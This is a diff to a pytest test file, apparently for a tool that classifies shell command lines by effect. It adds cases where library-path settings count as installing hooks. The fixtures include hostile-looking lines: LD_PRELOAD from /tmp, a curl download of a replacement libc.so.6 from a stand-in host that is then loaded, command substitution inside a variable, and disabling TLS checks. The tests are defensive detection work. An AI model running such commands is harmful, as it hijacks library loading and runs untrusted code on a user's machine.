@@ -5,6 +5,9 @@ from __future__ import annotations
 import pytest
 from command_effects import kinds_in, read_line
 
+from lockgate.core.ruling.effects.activity import Activity
+from lockgate.core.ruling.effects.project import NO_PROJECT
+
 
 @pytest.mark.parametrize(
     ("line", "effect"),
@@ -22,6 +25,14 @@ from command_effects import kinds_in, read_line
         ("GIT_CONFIG_KEY_0=core.pager git log", ("installs-hook", "core.pager=$GIT_CONFIG_VALUE")),
         ("GIT_TRACE2=/etc/x git log", ("writes-outside", "/etc/x")),
         ("LD_PRELOAD=/tmp/x.so ls", ("installs-hook", "/tmp/x.so")),
+        ("LD_LIBRARY_PATH=build:/tmp/x ls", ("installs-hook", "/tmp/x")),
+        ("LD_LIBRARY_PATH='/tmp/a b' ls", ("installs-hook", "/tmp/a b")),
+        ("LD_LIBRARY_PATH='build;/tmp/x' ls", ("installs-hook", "/tmp/x")),
+        ("export LD_LIBRARY_PATH=~/lib", ("installs-hook", "~/lib")),
+        ("LD_LIBRARY_PATH=/run/user/1000/x ls", ("installs-hook", "/run/user/1000/x")),
+        ("LD_LIBRARY_PATH=/usr/../tmp/x ls", ("installs-hook", "/usr/../tmp/x")),
+        ("LD_LIBRARY_PATH=$(cat x) ls", ("installs-hook", "$()")),
+        ("curl -so lib/libc.so.6 https://x.example/a; LD_LIBRARY_PATH=lib ls", ("installs-hook", "lib")),
         ("PATH=/tmp/bin:$PATH ls", ("unreadable", "/tmp/bin")),
         ("HTTPS_PROXY=http://h.example:8080 npm ci", ("uses-package-source", "h.example")),
         ("GIT_SSL_NO_VERIFY=1 git fetch", ("disables-check", "TLS")),
@@ -44,7 +55,16 @@ def test_setting_a_variable_has_this_effect(line: str, effect: tuple[str, str]) 
         "KUBECONFIG=~/.kube/dev kubectl get pods",
         "npm_config_script_shell=bash npm ls",
         "PATH=$PWD/bin:$PATH ls",
+        "LD_LIBRARY_PATH=build/lib:$LD_LIBRARY_PATH ls",
+        "export LD_LIBRARY_PATH=/usr/local/lib",
     ],
 )
 def test_an_ordinary_value_of_a_variable_only_looks(line: str) -> None:
     assert kinds_in(line) == {"looks"}
+
+
+def test_libraries_anywhere_are_foreign_where_the_project_or_the_session_is_not_known() -> None:
+    line = "LD_LIBRARY_PATH=/data/lib ls"
+    assert kinds_in(line, NO_PROJECT) == {"installs-hook"}
+    activity = Activity(downloaded=frozenset({"lib/libc.so.6"}))
+    assert ("installs-hook", "lib") in read_line("LD_LIBRARY_PATH=lib ls", activity=activity)
